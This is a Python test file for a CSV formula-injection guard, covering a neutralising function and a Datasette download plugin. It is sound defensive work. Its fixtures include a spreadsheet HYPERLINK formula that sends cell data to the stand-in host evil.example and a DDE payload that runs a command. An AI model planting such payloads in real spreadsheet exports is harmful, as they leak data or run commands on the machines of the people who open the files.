"""CSV cells a spreadsheet would run are made inert: the rule (`release.formulas`), and
`lps serve`'s CSV downloads (`datasette/plugins/lps_csv_guard.py`) on a real warehouse whose
`fetches` holds what a hostile manifest gave. `lps export`: tests/test_release.py."""

from __future__ import annotations

import asyncio
import csv
import io
import sys
from pathlib import Path

import pytest
from conftest import ROOT

from lps.serve import build_datasette
from release.formulas import neutralise_formula
from warehouse import open_warehouse
from warehouse.archive import record_fetch

sys.path.insert(0, str(ROOT / "datasette" / "plugins"))
from lps_csv_guard import CsvFormulaGuard  # type: ignore[import-not-found]  # a plugin file

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


@pytest.mark.parametrize(("cell", "written"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    ("-12.5", "-12.5"),  # a negative figure stays a number
    ("+3", "+3"),
    ("-1,234", "-1,234"),
    ("-4.5e3", "-4.5e3"),
    ("-12.5%", "-12.5%"),
    ("Barnet", "Barnet"),
    ("a=b", "a=b"),
    ("", ""),
])
def test_formula_starts_get_an_apostrophe_and_numbers_do_not(cell: str, written: str) -> None:
    assert neutralise_formula(cell) == written


def _csv(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)  # Datasette's dialect: minimal quoting, CRLF
    return buffer.getvalue().encode("utf-8")


def test_the_guard_rewrites_whole_records_however_the_stream_is_cut() -> None:
    rows = [["url", "reason", "size"],
            [HYPERLINK, "two\nlines, \"quoted\"", "-12.5"],
            ["http://ok.example/a.pdf", "=cut\r\nacross", ""],
            ["plain", "ünïcode", "3"]]
    expected = _csv([[neutralise_formula(cell) for cell in row] for row in rows])
    body = _csv(rows)
    for size in (1, 2, 7, len(body)):
        guard = CsvFormulaGuard()
        pieces = [body[i:i + size] for i in range(0, len(body), size)]
        out = b"".join(guard.feed(piece, last=False) for piece in pieces) + guard.feed(
            b"", last=True)
        assert out == expected, size
    assert list(csv.reader(io.StringIO(expected.decode())))[1] == [
        "'" + HYPERLINK, "two\nlines, \"quoted\"", "-12.5"]


@pytest.fixture
def served(tmp_path: Path) -> Path:
    db_path = tmp_path / "lps.db"
    with open_warehouse(db_path) as db:
        record_fetch(db, {"url": HYPERLINK, "status": "failed", "document_id": None,
                          "size_bytes": None, "content_type": "@SUM(1)",
                          "reason": "refused URL: scheme 'none' is not http or https",
                          "transient": 0, "attempts": 1, "fetched_at": "2026-01-01"})
        record_fetch(db, {"url": "http://archive.example/b.pdf", "status": "fetched",
                          "document_id": "a" * 64, "size_bytes": -12, "content_type": "-3.5",
                          "reason": None, "transient": 0, "attempts": 1,
                          "fetched_at": "2026-01-02"})
    return db_path


def _get(db_path: Path, path: str) -> tuple[int, str, str]:
    datasette = build_datasette(db_path)
    loop = asyncio.new_event_loop()
    try:
        loop.run_until_complete(datasette.invoke_startup())
        response = loop.run_until_complete(datasette.client.get(path))
    finally:
        loop.close()
    return response.status_code, response.headers.get("content-type", ""), response.text


@pytest.mark.parametrize("path", [
    "/lps/fetches.csv?_sort=url",
    "/lps/fetches.csv?_sort=url&_stream=on&_dl=1",
    "/lps.csv?sql=select+*+from+fetches+order+by+url",
])
def test_served_csv_neutralises_formulas_and_keeps_numbers(served: Path, path: str) -> None:
    status, kind, text = _get(served, path)
    assert status == 200, text
    assert kind.startswith(("text/csv", "text/plain"))
    rows = list(csv.reader(io.StringIO(text)))
    header, *body = rows
    by_url = {row[header.index("url")]: dict(zip(header, row, strict=True)) for row in body}
    assert set(by_url) == {"'" + HYPERLINK, "http://archive.example/b.pdf"}
    assert by_url["'" + HYPERLINK]["content_type"] == "'@SUM(1)"
    assert by_url["http://archive.example/b.pdf"]["size_bytes"] == "-12"
    assert by_url["http://archive.example/b.pdf"]["content_type"] == "-3.5"


def test_served_json_keeps_the_value_as_stored(served: Path) -> None:
    status, _, text = _get(served, "/lps/fetches.json?_shape=array&_sort=url")
    assert status == 200
    assert '"url": "=HYPERLINK(' in text.replace('":"', '": "')
